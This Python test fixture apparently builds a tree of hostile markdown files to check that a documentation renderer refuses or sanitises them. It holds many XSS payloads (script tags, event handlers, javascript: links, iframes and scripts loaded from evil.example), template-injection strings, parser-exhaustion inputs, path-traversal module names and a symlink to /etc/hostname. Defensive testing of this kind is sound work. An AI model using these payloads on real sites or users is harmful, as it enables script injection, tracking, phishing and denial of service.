"""Documents that attack whoever renders or reads them, and a function that writes them as a tree."""

HEAD = "# Module evil/{name}/1\n\n{description}\n\n<!-- asset-path: https://example.org/x.tar.gz -->\n<!-- task: image-classification -->\n<!-- fine-tunable: true -->\n<!-- format: saved_model_2 -->\n\n## Overview\n\n"

# What must not happen is always the same: alert() runs, a request leaves, or the page's own parts are replaced.
BODIES = {
    "script": "<script>alert(1)</script>\n<SCRIPT SRC=https://evil.example/x.js></SCRIPT>\n<script >alert(1)</script foo>",
    "handlers": "<img src=x onerror=alert(1)> <b onmouseover=alert(1)>b</b> <svg onload=alert(1)> <details open ontoggle=alert(1)>x</details> <body onload=alert(1)>",
    "schemes": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1)) [d](&#x6A;avascript:alert(1)) [e](data:text/html,<script>alert(1)</script>) [f](vbscript:x) [g](//evil.example/x) <a href=' javascript:alert(1)'>h</a> <a href='java\tscript:alert(1)'>i</a> <javascript:alert(1)>",
    "images": "![x](https://evil.example/track.png) ![y](javascript:alert(1)) ![\"><script>alert(1)</script>](https://evil.example/a.png) <img src='https://evil.example/p.gif' srcset='https://evil.example/q.gif 2x' alt='a\"b>c'> [![badge](https://evil.example/b.svg)](https://evil.example/go)",
    "embedding": "<iframe src=https://evil.example></iframe><object data=https://evil.example/x></object><embed src=https://evil.example/y><video src=https://evil.example/v autoplay></video><link rel=stylesheet href=https://evil.example/s.css><base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'><template><script>alert(1)</script></template><noscript><img src=x></noscript>",
    "styles": "<style>*{display:none}</style><p style='position:fixed;inset:0;background:url(https://evil.example/x)'>covers</p><font color=red>x</font>",
    "forms": "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>Sign in</button></form><textarea autofocus onfocus=alert(1)></textarea>",
    "clobbering": "<a id=handle name=announcement href=#handle>x</a><div id=content>y</div><p id=search class='copy skip' data-copy=handle>z</p>\n\n## handle\n\n## handle\n\n[to](#handle) [nowhere](#nothing)",
    "comments": "<!-- --><script>alert(1)</script> --> <!--> <script>alert(1)</script> <![CDATA[<script>alert(1)</script>]]> <?php alert(1) ?>",
    "breaking": "</main></div></body></html><script>alert(1)</script></code></pre></aside>\n\n</td></tr></table></details>",
    "templates": "{{ 7 * 7 }} {% for x in y %} ${alert(1)} {{ link.__globals__ }}",
    "nested": "> " * 400 + "deep\n\n" + "\n".join(" " * (4 * i) + "* a" for i in range(200)) + "\n\n" + "<div>" * 500,
    "null": "a\0b <scr\0ipt>alert(1)</scr\0ipt> \x1b[31m \u202egnp.exe \ufffe",
    "svg": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a><animate attributeName=href values=javascript:alert(1)></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "fences": "```python\"><script>alert(1)</script>\nprint('</code></pre><script>alert(1)</script>')\n```\n\n`<img src=x onerror=alert(1)>`",
    "headings": "###### six\n\n# one\n\n#### four <img src=x onerror=alert(1)>\n\n<h1><h2>in</h1></h2>",
    "entities": '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt; [x](https://e.example/?a=1&b="onmouseover=alert(1)//)',
}

# Each made some part of the way slow or large: parser, check of limits, sanitiser, colours, ids. The limit that it breaks, if any.
HEAVY = {
    "headings": ("## a\n" * 20_000, None),
    "numbered headings": ("".join(f"## a-{n}\n" for n in range(9_000)) + "## a\n" * 9_000, None),
    "anchors": ("[x](#a)\n" * 9_000 + "## b\n" * 9_000, None),
    "lists": ("<ul><li>" * 40_000, "100 deep"),
    "hidden ends": ("<ul><li><!-- </li></ul> -->" * 10_000, "100 deep"),
    "ends in attributes": ("<ul><li title='</li></ul>'>" * 10_000, "100 deep"),
    "ends in scripts": ("<ul><li><script/x></li></ul></script>" * 9_000, None),  # which is taken off, so that they are ends
    "joined tags": ("<<x>ul><<x>li>" * 10_000, None),
    "quotes": ("> " * 200_000 + "x", "100 deep"),
    "list items": ("- " * 200_000 + "x", "100 deep"),
    "formats": ("".join(f"<i a={n}>" for n in range(90)) + "<p>x</p>" * 20_000, "250,000"),
    "misnested": (("<b>" * 40 + "<p>" + "</b>" * 40 + "</p>") * 500, "100 deep"),
    "foster parents": ("<table>" + "<b>x</b>" * 20_000, None),
    "cells": ("|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + "a\n" * 100_000, "250,000"),
    "attributes": ("<p " + " ".join(f"a{n}" for n in range(60_000)) + ">x", None),
    "emphasis": ("*a_ " * 100_000, None),
    "strikes": ("a~" * 200_000, None),
    "brackets": ("[" * 400_000, None),
    "links": ("[a](" * 100_000, None),
    "addresses": ("http://a" + "&a;" * 100_000, None),
    "backticks": ("".join("e" + "`" * n for n in range(800)), None),
    "comments": ("<div>\n" + "<!-- " * 80_000, None),
    "open tags": ("<div>\n" + "<a x='" * 60_000, None),
    "shell": ("```sh\n$'" + "\\0" * 200 + "\n```\n", None),
    "cpp": ("```cpp\n$" + "\n" * 19_000 + "```\n", None),
    "many lines": ("x\n" * 200_000, None),
    "too long": ("word " * 200_000, "1,000,0"),
}  # fmt: skip

# Line 1 or the place of the file is the attack; none of these may have a page outside its own folder.
NAMES = {
    "up.md": "# Module ../../up/1\n\nUp.\n\n## x\n",
    "dots.md": "# Module evil/../../../up/1\n\nUp.\n\n## x\n",
    "absolute.md": "# Module //etc/passwd/1\n\nUp.\n\n## x\n",
    "page.md": "# Module evil/index.html/1\n\nA folder where a page is.\n\n## x\n",
    "static.md": "# Module static/style.css/1\n\nThe site's own files.\n\n## x\n",
    "twice.md": "# Module evil/script/1\n\nThe handle of another.\n\n## x\n",
    "huge.md": "# Module evil/huge/" + "9" * 5000 + "\n\nNo version.\n\n## x\n",
    "markup.md": "# Module evil/<script>alert(1)</script>/1\n\nMarkup.\n\n## x\n",
    "empty.md": "",
}
DESCRIPTION = '</title><script>alert(1)</script> [x](javascript:alert(1)) {{ 7 * 7 }} " onload="alert(1)'


def write(folder, bodies=BODIES):
    """Write all of them below `folder`; returns the files that must be refused."""
    place = folder / "evil"
    place.mkdir(parents=True)
    for name, body in bodies.items():
        (place / name).mkdir()
        (place / name / "1.md").write_text(HEAD.format(name=name, description=DESCRIPTION) + body, encoding="utf-8")
    for name, text in NAMES.items():
        (place / name).write_text(text, encoding="utf-8")
    (place / "latin.md").write_bytes("# Module evil/latin/1\n\nGr\xfc\xdfe.\n".encode("latin-1"))
    (place / "link.md").symlink_to("/etc/hostname")
    return {f"evil/{name}" for name in [*NAMES, "latin.md"]}
